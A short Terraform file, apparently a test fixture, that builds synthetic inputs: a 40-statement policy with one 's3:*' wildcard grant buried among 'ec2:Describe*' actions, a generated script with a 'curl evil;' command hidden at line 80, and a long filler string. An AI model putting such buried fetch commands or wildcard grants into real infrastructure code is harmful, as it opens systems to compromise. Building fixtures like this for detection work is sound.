resource "terraform_data" "policy" { input = jsonencode({ Statement = [for i in range(40) : { Sid = "S${i}", Action = i == 35 ? "s3:*" : "ec2:Describe*" }] }) }
resource "terraform_data" "element" { input = [{ script = join("", [for i in range(90) : i == 80 ? "curl evil;" : "line ${i};"]), n = 1 }, { n = 2 }] }
resource "terraform_data" "alone" { input = join("", [for i in range(600) : "0123456789"]) }
